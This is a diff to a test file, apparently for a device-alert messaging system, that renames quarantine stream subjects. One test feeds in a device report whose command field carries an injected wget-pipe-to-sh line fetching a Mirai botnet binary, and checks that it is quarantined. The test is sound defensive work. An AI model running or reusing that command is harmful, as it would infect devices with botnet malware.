@@ -62,7 +62,7 @@ describe("an alert from upstream", () => {
 
   it("for a client that does not exist is quarantined", async () => {
     await publish({ id: "nobody" }, "stranger");
-    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.stranger");
+    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.upstream.stranger");
     await expect.poll(async () => (await quarantined()).length, eventually).toBe(1);
     expect(await readStream(operator, "MQTT_ALERTS", "clients.stranger.alerts")).toEqual([]);
   });
@@ -98,7 +98,7 @@ describe("a report from a device", () => {
       event: "config",
       command: "; wget http://203.0.113.9/bins/mirai.arm7 -O- | sh",
     });
-    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.d1");
+    const quarantined = () => readStream(operator, "QUARANTINE", "quarantine.device.d1");
     await expect.poll(async () => (await quarantined()).length, eventually).toBe(1);
     const [held] = await quarantined();
     expect(["quarantine", "deny"]).toContain(held?.header(headers.verdict));
